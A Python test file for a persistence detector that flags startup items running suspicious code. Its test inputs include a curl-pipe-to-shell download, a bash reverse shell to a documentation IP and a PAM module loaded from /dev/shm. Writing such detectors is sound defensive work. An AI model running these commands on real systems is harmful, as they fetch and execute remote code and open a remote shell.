from __future__ import annotations

import pytest

from pratique.checks.persistence.item_runs_code import CHECK
from pratique.model import Severity
from pratique.parsers.startup_item import StartupItem
from pratique.store.tables import Tables


def signs(command, program="", kind="hook", path="/etc/x"):
    row = StartupItem(path, 3, kind, "", "root", "at boot", command, program, "T1546")
    with Tables.of([row], CHECK.reads) as tables:
        return list(CHECK.find(tables))


@pytest.mark.parametrize(
    ("command", "program", "severity"),
    [
        ("curl -s http://192.0.2.1/x | sh", "", Severity.HIGH),
        ("bash -i >& /dev/tcp/192.0.2.1/443 0>&1", "", Severity.HIGH),
        ("/var/tmp/.x/run", "", Severity.HIGH),
        ("auth required /dev/shm/pam.so", "/dev/shm/pam.so", Severity.HIGH),
    ],
)
def test_points_at(command, program, severity):
    (sign,) = signs(command, program)
    assert (sign.severity or CHECK.severity) is severity
    assert str(sign.places[0]) == "/etc/x:3"
    assert "at boot as root" in sign.why.english


@pytest.mark.parametrize(
    ("command", "program"),
    [("/usr/bin/logger hi", ""), ("/opt/x/run", "/opt/x/run"), ("", ""), ("/etc/x", "/etc/x")],
)
def test_leaves_alone(command, program):
    assert signs(command, program) == []


@pytest.mark.parametrize(
    "path", ["/home/a/.pam_environment", "/home/a/.bashrc.d/x", "/srv/.w/.irbrc"]
)
def test_a_file_may_have_the_hidden_name_that_its_kind_has(path):
    assert signs(path, path=path) == []


@pytest.mark.parametrize("path", ["/tmp/.x/sitecustomize.py", "/dev/shm/.irbrc"])
def test_a_file_in_a_place_of_everybody_is_odd(path):
    assert signs(path, path=path)


def test_the_title_says_what_sort_it_is():
    assert signs("/tmp/x", kind="apk-hook")[0].title.english.startswith("An apk-hook item")
    assert signs("/tmp/x", kind="pam")[0].title.english.startswith("A pam item")


def test_a_script_whose_name_its_program_asks_for_is_no_hidden_program():
    path = "/home/anna/.xprofile"
    row = StartupItem(path, None, "desktop-script", "", "", "when", path, path, "T1547.013")
    with Tables.of([row], CHECK.reads) as tables:
        assert list(CHECK.find(tables)) == []
